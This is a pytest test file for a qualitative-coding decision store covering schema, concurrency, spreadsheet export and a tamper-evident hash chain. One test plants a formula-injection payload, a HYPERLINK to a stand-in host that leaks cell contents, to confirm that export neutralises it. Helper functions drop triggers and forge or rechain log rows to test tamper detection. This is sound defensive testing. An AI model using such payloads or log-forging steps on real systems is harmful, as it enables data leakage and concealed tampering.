"""The coding decision store: schema, decisions, progress, concurrency, coding sheets, reviews,
the hash chain (tamper evidence), locks and a replaced store."""

from __future__ import annotations

import importlib.util
import multiprocessing
import os
import sqlite3
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pandas as pd
import pytest

from postkit.coding.chain import CHAINED, EXPECTED_TRIGGERS, row_hash
from postkit.coding.codebook import load_codebook
from postkit.coding.store import (SCHEMA_VERSION, CodingStore, StoreReplacedError, export_sheet, import_sheet,
                                  verify_store)
from postkit.errors import PostkitError
from postkit.locks import EXCLUSIVE, PathLock, lock_file_for

T0 = datetime(2024, 5, 1, 12, 0, tzinfo=UTC)


def _none(value):
    """pandas 3 string columns hold missing memos as NaN; compare them as None."""
    return None if pd.isna(value) else value

EXCERPTS = [
    {"unit_id": "p1#0", "post_id": "p1", "forum": "Robin", "text": "I felt so alone.", "start": 0, "end": 16},
    {"unit_id": "p1#1", "post_id": "p1", "forum": "Robin", "text": "Then my sister called.", "start": 17, "end": 39},
    {"unit_id": "p2#0", "post_id": "p2", "forum": "Jay", "text": "Nothing helps.", "start": 0, "end": 14},
]
SUGGESTIONS = [
    {"unit_id": "p1#0", "code_id": "ISOLATION", "score": 0.9, "evidence": [{"start": 12, "end": 17, "text": "alone"}]},
    {"unit_id": "p1#1", "code_id": "SUPPORT", "score": 0.7, "evidence": [{"start": 8, "end": 14, "text": "sister"}]},
    {"unit_id": "p2#0", "code_id": "HOPELESS", "score": 0.5, "evidence": []},
]


@pytest.fixture
def store(tmp_path: Path):
    with CodingStore(tmp_path / "coding.sqlite") as s:
        s.add_excerpts(EXCERPTS)
        s.add_suggestions(SUGGESTIONS, codebook_version="v1")
        yield s


# -- schema ---------------------------------------------------------------------


def test_schema_created_wal_and_version(tmp_path: Path) -> None:
    path = tmp_path / "coding.sqlite"
    CodingStore.open(path).close()
    conn = sqlite3.connect(path)
    tables = {r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}
    assert {"excerpts", "suggestions", "decisions", "reviews"} <= tables
    assert conn.execute("PRAGMA user_version").fetchone()[0] == SCHEMA_VERSION
    assert conn.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
    conn.close()


def test_folder_path_uses_default_file_name(tmp_path: Path) -> None:
    with CodingStore(tmp_path) as s:
        assert s.path == tmp_path / "coding.sqlite"
    assert (tmp_path / "coding.sqlite").exists()


def test_reopen_keeps_data(tmp_path: Path) -> None:
    path = tmp_path / "coding.sqlite"
    with CodingStore(path) as s:
        assert s.add_excerpts(EXCERPTS) == 3
        s.add_suggestions(SUGGESTIONS, "v1")
        s.decide("p1#0", "ISOLATION", "ann", "accept", "clear", at=T0)
    with CodingStore.open(path) as s:
        assert s.add_excerpts(EXCERPTS) == 0  # upsert-ignore
        assert len(s.excerpts()) == 3
        assert s.add_suggestions(SUGGESTIONS, "v1") == 0
        assert s.add_suggestions(SUGGESTIONS[:1], "v2") == 1
        log = s.decisions()
        assert log[["unit_id", "code_id", "coder", "action", "memo"]].values.tolist() == [
            ["p1#0", "ISOLATION", "ann", "accept", "clear"]
        ]
        assert log.loc[0, "decided_at"] == "2024-05-01T12:00:00.000000Z"
        assert log.loc[0, "codebook_version"] == "v1"  # taken from the suggestion


def test_newer_schema_refused(tmp_path: Path) -> None:
    path = tmp_path / "coding.sqlite"
    CodingStore(path).close()
    conn = sqlite3.connect(path)
    conn.execute(f"PRAGMA user_version = {SCHEMA_VERSION + 1}")
    conn.close()
    with pytest.raises(PostkitError, match="newer postkit") as info:
        CodingStore(path)
    assert info.value.fix and "upgrade" in info.value.fix


def test_foreign_sqlite_and_garbage_files_refused(tmp_path: Path) -> None:
    other = tmp_path / "other.sqlite"
    conn = sqlite3.connect(other)
    conn.execute("CREATE TABLE t (x)")
    conn.commit()
    conn.close()
    with pytest.raises(PostkitError, match="not a postkit coding store"):
        CodingStore(other)
    garbage = tmp_path / "notes.sqlite"
    garbage.write_text("hello, this is not a database at all " * 50)
    with pytest.raises(PostkitError, match="not a postkit coding store"):
        CodingStore(garbage)


def test_log_is_append_only_in_the_database(store: CodingStore) -> None:
    store.decide("p1#0", "ISOLATION", "ann", "accept")
    with pytest.raises(sqlite3.DatabaseError, match="append-only"):
        store._conn.execute("DELETE FROM decisions")
    with pytest.raises(sqlite3.DatabaseError, match="append-only"):
        store._conn.execute("UPDATE decisions SET action = 'reject'")


def test_suggestion_for_unknown_unit_refused(store: CodingStore) -> None:
    with pytest.raises(PostkitError, match="nothing was added") as info:
        store.add_suggestions([{"unit_id": "nope", "code_id": "X"}, SUGGESTIONS[0]], "v9")
    assert "unknown unit_id 'nope'" in info.value.details[0]
    assert len(store.suggestions()) == 3


# -- decisions --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (("nope", "ISOLATION", "ann", "accept"), "unknown unit_id"),
        (("p1#0", "ISOLATION", "ann", "maybe"), "unknown action"),
        (("p1#0", "ISOLATION", "  ", "accept"), "coder name is empty"),
        (("p1#0", "ISOLATION", None, "accept"), "coder name is empty"),
        (("p1#0", "", "ann", "accept"), "code_id is empty"),
    ],
)
def test_decide_validation(store: CodingStore, args: tuple, message: str) -> None:
    with pytest.raises(PostkitError, match=message):
        store.decide(*args)
    assert store.decisions().empty


def test_latest_decision_wins(store: CodingStore) -> None:
    first = store.decide("p1#0", "ISOLATION", "ann", "accept", at=T0)
    second = store.decide("p1#0", "ISOLATION", "ann", "reject", "on reflection: loneliness", at=T0 + timedelta(1))
    assert second > first
    # Recorded later but dated earlier: time decides, not insertion order.
    store.decide("p1#0", "ISOLATION", "ann", "accept", at=T0 - timedelta(1))
    store.decide("p1#0", "ISOLATION", "bob", "accept", at=T0)
    store.decide("p1#1", "LONELINESS", "ann", "add", at=T0)
    codings = store.codings()
    assert list(codings.columns) == ["unit_id", "coder", "code_id", "applied", "action", "memo", "decided_at"]
    got = {(r.unit_id, r.coder, r.code_id): (r.applied, _none(r.memo)) for r in codings.itertuples()}
    assert got == {
        ("p1#0", "ann", "ISOLATION"): (False, "on reflection: loneliness"),
        ("p1#0", "bob", "ISOLATION"): (True, None),
        ("p1#1", "ann", "LONELINESS"): (True, None),
    }
    assert codings["applied"].dtype == bool
    assert len(store.decisions()) == 5  # nothing overwritten
    assert len(store.decisions(coder="bob")) == 1


def test_same_timestamp_tie_broken_by_insertion(store: CodingStore) -> None:
    store.decide("p2#0", "HOPELESS", "ann", "accept", at=T0)
    store.decide("p2#0", "HOPELESS", "ann", "remove", at=T0)
    assert store.codings()["applied"].tolist() == [False]


def test_suggestions_alone_never_count_as_codings(store: CodingStore) -> None:
    codings = store.codings()
    assert codings.empty
    assert list(codings.columns) == ["unit_id", "coder", "code_id", "applied", "action", "memo", "decided_at"]
    assert store.coded_units().empty
    store.decide("p1#0", "ISOLATION", "ann", "accept")
    assert store.codings()[["unit_id", "code_id"]].values.tolist() == [["p1#0", "ISOLATION"]]


def test_naive_datetime_taken_as_utc(store: CodingStore) -> None:
    store.decide("p1#0", "ISOLATION", "ann", "accept", at=datetime(2024, 1, 2, 3, 4, 5))
    assert store.decisions().loc[0, "decided_at"] == "2024-01-02T03:04:05.000000Z"


def test_coded_units_and_progress(store: CodingStore) -> None:
    assert store.progress() == {
        "units_total": 3,
        "units_decided": 0,
        "units_decided_by_coder": {},
        "decisions_by_coder": {},
        "decisions_total": 0,
        "suggestions_total": 3,
        "suggestions_pending": 3,
    }
    store.decide("p1#0", "ISOLATION", "ann", "accept", at=T0)
    store.decide("p1#0", "ISOLATION", "ann", "reject", at=T0 + timedelta(1))
    store.decide("p1#0", "EXTRA", "ann", "add", at=T0)
    store.decide("p1#1", "SUPPORT", "bob", "reject", at=T0)
    store.add_suggestions([SUGGESTIONS[0]], "v2")  # same (unit, code), newer codebook: not a new pending item
    progress = store.progress()
    assert progress["units_decided"] == 2
    assert progress["units_decided_by_coder"] == {"ann": 1, "bob": 1}
    assert progress["decisions_by_coder"] == {"ann": 3, "bob": 1}
    assert progress["decisions_total"] == 4
    assert progress["suggestions_total"] == 3
    assert progress["suggestions_pending"] == 1  # only p2#0 HOPELESS
    assert store.coded_units().values.tolist() == [["p1#0", "ann"], ["p1#1", "bob"]]


# -- concurrency ------------------------------------------------------------------

PER_PROCESS = 300


def _writer(path: str, coder: str, start_event) -> None:
    start_event.wait()
    with CodingStore(path) as s:
        for i in range(PER_PROCESS):
            s.decide(f"u{i % 10}", f"C{i}", coder, "accept" if i % 2 else "reject", memo=str(i))


def test_two_processes_writing_at_once_lose_nothing(tmp_path: Path) -> None:
    path = tmp_path / "coding.sqlite"
    with CodingStore(path) as s:
        s.add_excerpts([{"unit_id": f"u{i}", "text": f"unit {i}"} for i in range(10)])
    ctx = multiprocessing.get_context("spawn")
    start = ctx.Event()
    workers = [ctx.Process(target=_writer, args=(str(path), coder, start)) for coder in ("ann", "bob")]
    for w in workers:
        w.start()
    start.set()
    for w in workers:
        w.join(timeout=120)
    assert [w.exitcode for w in workers] == [0, 0]  # a "database is locked" error would exit non-zero
    with CodingStore(path) as s:
        log = s.decisions()
        assert len(log) == 2 * PER_PROCESS
        assert log.groupby("coder").size().to_dict() == {"ann": PER_PROCESS, "bob": PER_PROCESS}
        assert log["id"].is_unique
        assert sorted(log[log.coder == "ann"]["memo"].astype(int)) == list(range(PER_PROCESS))
        assert len(s.codings()) == 2 * PER_PROCESS
    result = verify_store(path)  # interleaved writers still make one unbroken chain
    assert result.ok, result.render()
    assert result.rows["decisions"] == 2 * PER_PROCESS


def _opener(path: str, start_event, _i: int) -> None:
    start_event.wait()
    with CodingStore(path) as s:
        s.add_excerpts([{"unit_id": "x"}])


def test_simultaneous_first_open_creates_schema_once(tmp_path: Path) -> None:
    path = tmp_path / "coding.sqlite"
    ctx = multiprocessing.get_context("spawn")
    start = ctx.Event()
    workers = [ctx.Process(target=_opener, args=(str(path), start, i)) for i in range(3)]
    for w in workers:
        w.start()
    start.set()
    for w in workers:
        w.join(timeout=60)
    assert [w.exitcode for w in workers] == [0, 0, 0]
    with CodingStore(path) as s:
        assert s.excerpts()["unit_id"].tolist() == ["x"]


# -- coding sheets ------------------------------------------------------------------

SHEET_FORMATS = ["csv"] + (["xlsx"] if importlib.util.find_spec("openpyxl") else [])


def _read(path: Path) -> pd.DataFrame:
    if path.suffix == ".csv":
        return pd.read_csv(path, dtype=str, keep_default_na=False, encoding="utf-8-sig")
    return pd.read_excel(path, dtype=str, keep_default_na=False)


def _write(frame: pd.DataFrame, path: Path) -> None:
    if path.suffix == ".csv":
        frame.to_csv(path, index=False)
    else:
        frame.to_excel(path, index=False)


@pytest.mark.parametrize("fmt", SHEET_FORMATS)
def test_sheet_round_trip_and_idempotent(store: CodingStore, tmp_path: Path, fmt: str) -> None:
    store.decide("p2#0", "HOPELESS", "ann", "accept", "bleak", at=T0)
    store.decide("p2#0", "HOPELESS", "bob", "reject", at=T0)  # other coder: not shown to ann
    sheet = tmp_path / f"ann.{fmt}"
    assert export_sheet(store, sheet, "ann") == 3
    frame = _read(sheet)
    assert list(frame.columns) == ["unit_id", "post_id", "text", "code_id", "code_name", "definition", "suggested",
                                   "score", "evidence", "decision", "memo"]
    assert frame["code_name"].tolist() == ["", "", ""]  # these test codes are not in the codebook
    assert frame["code_id"].tolist() == ["ISOLATION", "SUPPORT", "HOPELESS"]
    assert frame["suggested"].tolist() == ["yes", "yes", "yes"]
    assert frame.loc[0, "evidence"] == "alone"
    assert frame.loc[0, "score"] == "0.9"
    assert frame.loc[2, ["decision", "memo"]].tolist() == ["accept", "bleak"]  # current decision pre-filled
    # The coder fills the sheet in.
    frame.loc[0, ["decision", "memo"]] = ["accept", "strong"]
    frame.loc[1, "decision"] = "Reject"  # case is forgiven
    new = frame.iloc[[1]].copy()
    new[["code_id", "code_name", "definition", "suggested", "score", "evidence", "decision", "memo"]] = [
        "FAMILY", "", "", "", "", "", "add", ""]
    frame = pd.concat([frame, new], ignore_index=True)
    _write(frame, sheet)

    assert import_sheet(store, sheet, "ann") == 3  # HOPELESS unchanged -> skipped
    ann = store.codings().query("coder == 'ann'")
    got = {(r.unit_id, r.code_id): (r.applied, _none(r.memo)) for r in ann.itertuples()}
    assert got == {
        ("p1#0", "ISOLATION"): (True, "strong"),
        ("p1#1", "SUPPORT"): (False, None),
        ("p1#1", "FAMILY"): (True, None),
        ("p2#0", "HOPELESS"): (True, "bleak"),
    }
    before = len(store.decisions())
    assert import_sheet(store, sheet, "ann") == 0
    assert len(store.decisions()) == before
    # A fresh export reflects the store (added code included) and re-imports as a no-op.
    assert export_sheet(store, sheet, "ann") == 4
    assert import_sheet(store, sheet, "ann") == 0
    assert store.progress()["suggestions_pending"] == 0


def test_sheet_blank_decisions_skipped_and_memo_change_recorded(store: CodingStore, tmp_path: Path) -> None:
    sheet = tmp_path / "ann.csv"
    export_sheet(store, sheet, "ann")
    assert import_sheet(store, sheet, "ann") == 0  # all blank
    frame = _read(sheet)
    frame.loc[0, "decision"] = "accept"
    _write(frame, sheet)
    assert import_sheet(store, sheet, "ann") == 1
    frame.loc[0, "memo"] = "second thoughts, same call"
    _write(frame, sheet)
    assert import_sheet(store, sheet, "ann") == 1
    assert store.codings()["memo"].tolist() == ["second thoughts, same call"]


def test_sheet_lists_units_without_suggestions(store: CodingStore, tmp_path: Path) -> None:
    store.add_excerpts([{"unit_id": "p3#0", "post_id": "p3", "text": "Quiet one."}])
    sheet = tmp_path / "ann.csv"
    assert export_sheet(store, sheet, "ann") == 4
    frame = _read(sheet)
    last = frame.iloc[-1]
    assert (last["unit_id"], last["code_id"], last["suggested"]) == ("p3#0", "", "no")
    frame.loc[frame.index[-1], ["code_id", "decision"]] = ["CALM", "add"]
    _write(frame, sheet)
    assert import_sheet(store, sheet, "ann") == 1
    assert store.codings()[["unit_id", "code_id"]].values.tolist() == [["p3#0", "CALM"]]


def test_bad_sheet_rows_abort_whole_import(store: CodingStore, tmp_path: Path) -> None:
    sheet = tmp_path / "ann.csv"
    export_sheet(store, sheet, "ann")
    frame = _read(sheet)
    frame.loc[0, "decision"] = "accept"  # valid, but must not be imported
    frame.loc[1, "decision"] = "yes please"
    frame.loc[2, "unit_id"] = "p9#9"
    frame.loc[2, "decision"] = "accept"
    _write(frame, sheet)
    with pytest.raises(PostkitError, match="2 row") as info:
        import_sheet(store, sheet, "ann")
    err = info.value
    assert err.path == str(sheet)
    # Rows and columns are named; what the coder typed is never repeated (it may hold a quote).
    assert any(line.startswith("row 3, column 'decision'") for line in err.details)
    assert any(line.startswith("row 4, column 'unit_id'") for line in err.details)
    assert not any("yes please" in line or "p9#9" in line for line in err.details)
    assert store.decisions().empty


def test_sheet_conflicting_duplicate_rows_refused(store: CodingStore, tmp_path: Path) -> None:
    sheet = tmp_path / "ann.csv"
    export_sheet(store, sheet, "ann")
    frame = _read(sheet)
    frame.loc[0, "decision"] = "accept"
    dup = frame.iloc[[0]].copy()
    dup["decision"] = "reject"
    _write(pd.concat([frame, dup], ignore_index=True), sheet)
    with pytest.raises(PostkitError) as info:
        import_sheet(store, sheet, "ann")
    assert "conflicts with row 2" in info.value.details[0]
    assert store.decisions().empty


def test_sheet_errors(store: CodingStore, tmp_path: Path) -> None:
    with pytest.raises(PostkitError, match="unsupported coding sheet type"):
        export_sheet(store, tmp_path / "sheet.txt", "ann")
    with pytest.raises(PostkitError, match="coder name is empty"):
        export_sheet(store, tmp_path / "sheet.csv", "")
    (tmp_path / "bad.csv").write_text("unit_id,memo\np1#0,hi\n")
    with pytest.raises(PostkitError, match="lacks column"):
        import_sheet(store, tmp_path / "bad.csv", "ann")
    if not importlib.util.find_spec("openpyxl"):
        with pytest.raises(PostkitError, match="openpyxl"):
            export_sheet(store, tmp_path / "sheet.xlsx", "ann")


@pytest.fixture
def cmo_store(tmp_path: Path):
    """A store whose suggestions are codes of the packaged codebook (and one that is not)."""
    with CodingStore(tmp_path / "cmo.sqlite") as s:
        s.add_excerpts(EXCERPTS)
        s.add_suggestions([{"unit_id": "p1#0", "code_id": "UA-C3", "score": 0.8, "evidence": []},
                           {"unit_id": "p1#1", "code_id": "SE-C5", "score": 0.6, "evidence": []},
                           {"unit_id": "p2#0", "code_id": "OLD-C9", "score": 0.5, "evidence": []}],
                          codebook_version="v1")
        yield s


@pytest.mark.parametrize("fmt", SHEET_FORMATS)
def test_sheet_names_each_code_and_gives_its_definition(cmo_store: CodingStore, tmp_path: Path, fmt: str) -> None:
    book = load_codebook()
    sheet = tmp_path / f"ann.{fmt}"
    export_sheet(cmo_store, sheet, "ann")
    frame = _read(sheet)
    assert frame[["code_id", "code_name", "definition"]].values.tolist() == [
        ["UA-C3", book.code("UA-C3").name, book.code("UA-C3").definition],
        ["SE-C5", book.code("SE-C5").name, book.code("SE-C5").definition],
        ["OLD-C9", "", ""]]  # a code the codebook no longer holds: no name made up
    # Another codebook (`--codebook`) names the codes its own way.
    other = tmp_path / "book.yaml"
    other.write_text(book.path.read_text(encoding="utf-8").replace(
        'name: "Peers with lived experience"', 'name: "Peers who have been there"'), encoding="utf-8")
    export_sheet(cmo_store, sheet, "ann", codebook=load_codebook(other))
    assert _read(sheet)["code_name"].tolist()[1] == "Peers who have been there"


@pytest.mark.skipif(not importlib.util.find_spec("openpyxl"), reason="needs openpyxl")
def test_xlsx_sheet_has_a_decision_drop_down_and_a_codebook_tab(cmo_store: CodingStore, tmp_path: Path) -> None:
    import openpyxl

    sheet = tmp_path / "ann.xlsx"
    export_sheet(cmo_store, sheet, "ann")
    workbook = openpyxl.load_workbook(sheet)
    assert workbook.sheetnames == ["coding", "codebook"]
    coding = workbook["coding"]
    header = [cell.value for cell in coding[1]]
    decision = openpyxl.utils.get_column_letter(header.index("decision") + 1)
    code_id = openpyxl.utils.get_column_letter(header.index("code_id") + 1)
    rules = {str(dv.sqref): dv for dv in coding.data_validations.dataValidation}
    drop_down = rules[f"{decision}2:{decision}1048576"]  # rows a coder adds get it too
    assert drop_down.type == "list" and drop_down.formula1 == '"accept,reject,add,remove"'
    assert drop_down.allow_blank and drop_down.showErrorMessage and not drop_down.showDropDown
    codes = rules[f"{code_id}2:{code_id}1048576"]
    book = load_codebook()
    n_codes = len(list(book.codes()))
    assert codes.formula1 == f"codebook!$A$2:$A${n_codes + 1}" and not codes.showErrorMessage  # old ids allowed
    tab = pd.read_excel(sheet, sheet_name="codebook", dtype=str, keep_default_na=False)
    assert len(tab) == n_codes
    five = tab[tab["code_id"] == "SE-C5"].iloc[0]
    assert (five["name"], five["include"], five["exclude"]) == (
        book.code("SE-C5").name, book.code("SE-C5").include, book.code("SE-C5").exclude)
    # Filled in and imported, with the codebook tab moved first: decisions come from the coding tab.
    coding.cell(row=2, column=header.index("decision") + 1, value="accept")
    coding.cell(row=3, column=header.index("decision") + 1, value="reject")
    workbook.move_sheet("codebook", offset=-1)
    workbook.save(sheet)
    assert import_sheet(cmo_store, sheet, "ann") == 2
    assert cmo_store.codings()[["code_id", "action"]].values.tolist() == [["UA-C3", "accept"], ["SE-C5", "reject"]]


@pytest.mark.parametrize("fmt", SHEET_FORMATS)
def test_sheets_in_the_old_layout_still_import(cmo_store: CodingStore, tmp_path: Path, fmt: str) -> None:
    """A sheet exported before code_name and definition existed (nine columns)."""
    old = pd.DataFrame([["p1#0", "p1", "I felt so alone.", "UA-C3", "yes", "0.8", "", "accept", "not alone"],
                        ["p2#0", "p2", "Nothing helps.", "OLD-C9", "yes", "0.5", "", "Reject", ""]],
                       columns=["unit_id", "post_id", "text", "code_id", "suggested", "score", "evidence",
                                "decision", "memo"])
    sheet = tmp_path / f"old.{fmt}"
    _write(old, sheet)
    assert import_sheet(cmo_store, sheet, "ann") == 2
    got = cmo_store.codings()[["unit_id", "code_id", "action", "memo"]].values.tolist()
    assert [row[:3] for row in got] == [["p1#0", "UA-C3", "accept"], ["p2#0", "OLD-C9", "reject"]]
    assert got[0][3] == "not alone"


@pytest.mark.parametrize("fmt", SHEET_FORMATS)
def test_post_text_never_becomes_a_spreadsheet_formula(tmp_path: Path, fmt: str) -> None:
    hostile = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
    with CodingStore(tmp_path / "coding.sqlite") as store:
        store.add_excerpts([{"unit_id": "u1", "post_id": "p1", "text": hostile},
                            {"unit_id": "u2", "post_id": "p2", "text": "- a list, not a sum"}])
        store.add_suggestions([{"unit_id": "u1", "code_id": "SE-C5", "score": 0.5,
                                "evidence": [{"start": 0, "end": 10, "text": hostile[:10]}]}], codebook_version="v1")
        store.decide("u1", "SE-C5", "ann", "accept", "=1+1 is how they put it")
        sheet = tmp_path / f"ann.{fmt}"
        export_sheet(store, sheet, "ann")
        if fmt == "xlsx":
            import openpyxl

            cells = [cell for row in openpyxl.load_workbook(sheet)["coding"].iter_rows() for cell in row]
            assert all(cell.data_type != "f" for cell in cells)
            frame = _read(sheet)
            assert frame["text"].tolist() == [hostile, "- a list, not a sum"]  # stored as text, unchanged
            assert frame["memo"].tolist()[0] == "=1+1 is how they put it"
        else:
            frame = _read(sheet)
            assert frame["text"].tolist() == ["'" + hostile, "'- a list, not a sum"]
            assert frame["evidence"].tolist()[0] == "'" + hostile[:10]
        assert import_sheet(store, sheet, "ann") == 0  # the coder's own memo comes back unchanged
        assert store.codings()["memo"].tolist() == ["=1+1 is how they put it"]


# -- reviews ------------------------------------------------------------------------


def test_reviews(store: CodingStore) -> None:
    first = store.add_review("quote", "q1", "ann", "approve", text="a disguised quote", scores={"bleu": 0.12},
                             note="ok", at=T0)
    second = store.add_review("quote", "q1", "bob", "reject", at=T0 + timedelta(1))
    store.add_review("other", "x", "ann", "flag", at=T0)
    assert second > first
    quotes = store.reviews("quote")
    assert quotes["reviewer"].tolist() == ["ann", "bob"]
    assert quotes.loc[0, "scores"] == {"bleu": 0.12}
    assert _none(quotes.loc[1, "scores"]) is None
    assert quotes.loc[0, "text"] == "a disguised quote"
    assert len(store.reviews()) == 3
    assert store.reviews("none").empty
    with pytest.raises(PostkitError, match="reviewer"):
        store.add_review("quote", "q1", " ", "approve")
    with pytest.raises(PostkitError, match="JSON"):
        store.add_review("quote", "q1", "ann", "approve", scores={"x": object()})
    assert store.codings().empty  # reviews are not codings


# -- tamper evidence: the hash chain ---------------------------------------------------

BACK_THEN = "2024-01-01T00:00:00.000000Z"


@pytest.fixture
def chained(tmp_path: Path) -> Path:
    """A closed store: decisions id 1-6 (seq 1-6), review id 1 (seq 7), decision id 7 (seq 8)."""
    path = tmp_path / "coding.sqlite"
    with CodingStore(path) as s:
        s.add_excerpts(EXCERPTS)
        s.add_suggestions(SUGGESTIONS, "v1")
        for i in range(6):
            s.decide(EXCERPTS[i % 3]["unit_id"], "ISOLATION", ("ann", "bob")[i % 2],
                     ("accept", "reject", "add", "remove")[i % 4], memo=f"memo {i}")
        s.add_review("quote", "q1", "ann", "approve", text="a quote", scores={"bleu": 0.1}, note="fine")
        s.decide("p2#0", "HOPELESS", "ann", "accept")
    return path


@contextmanager
def attacker(path: Path):
    """Someone with the file and the sqlite3 shell: drops every trigger first."""
    conn = sqlite3.connect(path, isolation_level=None)
    conn.row_factory = sqlite3.Row
    for name in EXPECTED_TRIGGERS:
        conn.execute(f"DROP TRIGGER IF EXISTS {name}")
    try:
        yield conn
    finally:
        conn.close()


def restore_triggers(conn: sqlite3.Connection) -> None:
    for sql in EXPECTED_TRIGGERS.values():
        conn.execute(sql)


def chain_rows(conn: sqlite3.Connection) -> list[tuple[str, dict]]:
    rows = [(table, dict(r)) for table in CHAINED for r in conn.execute(f"SELECT * FROM {table}")]
    return sorted(rows, key=lambda item: (item[1]["seq"], item[0]))


def rechain(conn: sqlite3.Connection) -> None:
    """What a careful attacker does after editing: recompute every prev and hash, and the head."""
    prev, last = "0" * 64, None
    for table, row in chain_rows(conn):
        row["prev"] = prev
        prev = row_hash(table, row)
        conn.execute(f"UPDATE {table} SET prev = ?, hash = ? WHERE id = ?", (row["prev"], prev, row["id"]))
        last = row
    conn.execute("UPDATE chain SET head_seq = ?, head_hash = ?, head_recorded_at = ?",
                 (last["seq"], prev, last["recorded_at"]))


def append_forged(conn: sqlite3.Connection, recorded_at: str, decided_at: str | None = None) -> None:
    """A decision appended at the end by hand, chained correctly, head moved."""
    seq, head = conn.execute("SELECT head_seq, head_hash FROM chain").fetchone()
    row = {"id": 50, "unit_id": "p1#0", "code_id": "ISOLATION", "coder": "ann", "action": "reject",
           "memo": None, "decided_at": decided_at or recorded_at, "codebook_version": "v1",
           "recorded_at": recorded_at, "seq": seq + 1, "prev": head}
    row["hash"] = row_hash("decisions", row)
    conn.execute(f"INSERT INTO decisions ({', '.join(row)}) VALUES ({', '.join('?' * len(row))})", list(row.values()))
    conn.execute("UPDATE chain SET head_seq = ?, head_hash = ?", (row["seq"], row["hash"]))


def test_clean_store_verifies_with_counts_and_head(tmp_path: Path) -> None:
    path = tmp_path / "coding.sqlite"
    with CodingStore(path) as s:
        s.add_excerpts(EXCERPTS)
        for i in range(300):
            s.decide(EXCERPTS[i % 3]["unit_id"], f"C{i % 7}", ("ann", "bob", "cy")[i % 3], "accept", memo=f"é {i}")
            if i % 50 == 0:
                s.add_review("quote", f"q{i}", "ann", "approve", text=f"quote {i}", scores={"n": i})
        seq, head = s.head()
    result = verify_store(path)
    assert result.ok, result.render()
    assert result.rows == {"decisions": 300, "reviews": 6}
    assert (result.head_seq, result.head) == (306, head) == (seq, head)
    assert result.problem is None and not result.notes
    assert f"Head: {head} (seq 306)" in result.render() and result.render().startswith("OK:")
    assert verify_store(tmp_path, expected_head=head.upper()).ok  # a folder names its coding.sqlite


def test_edit_after_drop_trigger_names_the_row(chained: Path) -> None:
    with attacker(chained) as conn:
        conn.execute("UPDATE decisions SET action = 'accept' WHERE id = 3")
    result = verify_store(chained)
    assert not result.ok
    assert result.problem == "decisions row id 3 (seq 3): edited — its hash does not match its content"
    assert any("trigger decisions_no_update was dropped" in p for p in result.problems)
    assert "FAILED" in result.render() and "also: trigger" in result.render()


def test_edit_of_a_review_with_triggers_put_back(chained: Path) -> None:
    with attacker(chained) as conn:
        conn.execute("UPDATE reviews SET note = 'changed' WHERE id = 1")
        restore_triggers(conn)
    result = verify_store(chained)
    assert result.problems == ["reviews row id 1 (seq 7): edited — its hash does not match its content"]


def test_edited_row_with_its_own_hash_recomputed(chained: Path) -> None:
    with attacker(chained) as conn:
        row = dict(conn.execute("SELECT * FROM decisions WHERE id = 2").fetchone()) | {"action": "accept"}
        conn.execute("UPDATE decisions SET action = 'accept', hash = ? WHERE id = 2", (row_hash("decisions", row),))
        restore_triggers(conn)
    assert verify_store(chained).problem.startswith(
        "decisions row id 3 (seq 3): prev does not match the hash of decisions row id 2 (seq 2)")


def test_deleted_middle_row(chained: Path) -> None:
    with attacker(chained) as conn:
        conn.execute("DELETE FROM decisions WHERE id = 3")
        restore_triggers(conn)
    assert verify_store(chained).problem == "decisions row id 4 (seq 4): expected seq 3 — seq 3 deleted before it"


def test_deleted_last_row_head_record_and_expect_head(chained: Path) -> None:
    with CodingStore(chained, read_only=True) as s:
        _seq, recorded = s.head()
    with attacker(chained) as conn:
        conn.execute("DELETE FROM decisions WHERE id = 7")
    result = verify_store(chained)
    assert result.problem == "the last row(s) were deleted: the chain ends at seq 7 but its head record names seq 8"
    with pytest.raises(PostkitError, match="altered by hand"):  # and no writer extends the cut chain
        CodingStore(chained)
    # A careful attacker also rewinds the head record and puts the triggers back: only a head
    # recorded elsewhere catches that (documented limit).
    with attacker(chained) as conn:
        rechain(conn)
        restore_triggers(conn)
    assert verify_store(chained).ok
    result = verify_store(chained, expected_head=recorded)
    assert not result.ok and f"is not the expected {recorded}" in result.problem


@pytest.mark.parametrize("successors", ["shifted", "left alone"])
def test_back_dated_insert_in_the_middle(chained: Path, successors: str) -> None:
    with attacker(chained) as conn:
        conn.execute("DROP INDEX decisions_by_seq")
        if successors == "shifted":
            for table in CHAINED:
                conn.execute(f"UPDATE {table} SET seq = seq + 1 WHERE seq >= 3")
        before = dict(conn.execute("SELECT * FROM decisions WHERE id = 2").fetchone())
        row = before | {"id": 8, "action": "remove", "decided_at": BACK_THEN, "recorded_at": BACK_THEN, "seq": 3,
                        "prev": before["hash"]}
        row["hash"] = row_hash("decisions", row)
        conn.execute(f"INSERT INTO decisions ({', '.join(row)}) VALUES ({', '.join('?' * len(row))})",
                     list(row.values()))
        restore_triggers(conn)
    problem = verify_store(chained).problem
    if successors == "shifted":
        assert problem.startswith("decisions row id 8 (seq 3): back-dated — recorded at 2024-01-01T00:00:00")
    else:
        assert problem == "decisions row id 8 (seq 3): seq 3 appears twice — a row was inserted or duplicated"


def test_back_dated_insert_at_the_end_fully_rechained(chained: Path) -> None:
    with attacker(chained) as conn:
        append_forged(conn, BACK_THEN)
        restore_triggers(conn)
    problem = verify_store(chained).problem
    assert problem.startswith("decisions row id 50 (seq 9): back-dated — recorded at 2024-01-01T00:00:00.000000Z, "
                              "before decisions row id 7 (seq 8)")


def test_forward_dated_rows(chained: Path) -> None:
    with attacker(chained) as conn:
        append_forged(conn, "2999-01-01T00:00:00.000000Z")
        restore_triggers(conn)
    assert "after the file was last modified" in verify_store(chained).problem
    with attacker(chained) as conn:
        conn.execute("DELETE FROM decisions WHERE id = 50")
        rechain(conn)
        now = conn.execute("SELECT head_recorded_at FROM chain").fetchone()[0]
        append_forged(conn, now, decided_at="2999-01-01T00:00:00.000000Z")  # wins "latest" for ever
        restore_triggers(conn)
    assert verify_store(chained).problem == (
        f"decisions row id 50 (seq 9): decided at 2999-01-01T00:00:00.000000Z, after it was recorded ({now}) — "
        "forward-dated")


def test_reordered_rows(chained: Path) -> None:
    with attacker(chained) as conn:
        conn.execute("UPDATE decisions SET id = 60 WHERE id = 2")
        rechain(conn)
